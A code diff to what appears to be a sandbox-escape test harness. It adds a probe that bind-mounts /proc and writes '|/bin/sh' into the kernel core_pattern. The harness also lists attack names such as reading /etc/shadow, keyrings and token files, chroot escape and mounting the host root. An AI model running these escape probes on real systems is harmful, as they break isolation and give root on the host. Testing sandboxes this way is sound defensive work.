@@ -77,6 +77,7 @@ class VMBuilderScript(VMBuilder):
         self.attempt("fresh-sysfs", self.fresh_sysfs)
         self.attempt("unmount-proc-sys", lambda: self.run_ok("umount", "/proc/sys"))
         self.attempt("remount-usr-rw", lambda: self.run_ok("mount", "-o", "remount,rw", "/usr"))
+        self.attempt("bind-proc-sys", self.bind_proc)
         self.attempt("cover-code", lambda: self.run_ok("mount", "--bind", "/tmp", "/usr/lib"))
         self.attempt("cover-dev", lambda: self.run_ok("mount", "-t", "tmpfs", "x", "/dev"))
         self.attempt("mknod-block", lambda: os.mknod("/tmp/sda", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
@@ -144,6 +145,19 @@ class VMBuilderScript(VMBuilder):
             return (True, "wrote core_pattern")
         except OSError as exc:
             return (False, f"mounted, but {exc}")
+
+    def bind_proc(self):
+        os.makedirs("/tmp/bp", exist_ok=True)
+        done = subprocess.run(["mount", "--bind", "/proc", "/tmp/bp"], capture_output=True, text=True)
+        if done.returncode != 0:
+            return (False, done.stderr.strip())
+        rw = self.run_ok("mount", "-o", "remount,bind,rw", "/tmp/bp/sys")
+        try:
+            with open("/tmp/bp/sys/kernel/core_pattern", "w") as f:
+                f.write("|/bin/sh")
+            return (True, "wrote core_pattern through a bind of /proc")
+        except OSError as exc:
+            return (False, f"bound, but {exc}; remount rw: {rw}")
 
     def fresh_sysfs(self):
         os.makedirs("/tmp/s", exist_ok=True)
@@ -237,7 +251,8 @@ class VMBuilderScript(VMBuilder):
 
 ATTACKS = ("read-shadow", "read-config", "read-keyring", "read-token-file", "read-etc-pvc", "read-ceph-dir",
            "read-root-home", "settings", "environment", "libvirt-socket", "chroot-escape", "write-host-file",
-           "core-pattern", "sysrq", "sys-write", "fresh-proc-core-pattern", "fresh-sysfs", "unmount-proc-sys",
+           "core-pattern", "sysrq", "sys-write", "fresh-proc-core-pattern", "bind-proc-sys", "fresh-sysfs",
+           "unmount-proc-sys",
            "remount-usr-rw", "cover-code", "cover-dev", "mknod-block", "mknod-mem", "mount-host-root",
            "host-block-devices",
            "finit_module", "init_module", "kexec_load", "reboot", "bpf", "keyctl", "user-namespace", "setns",
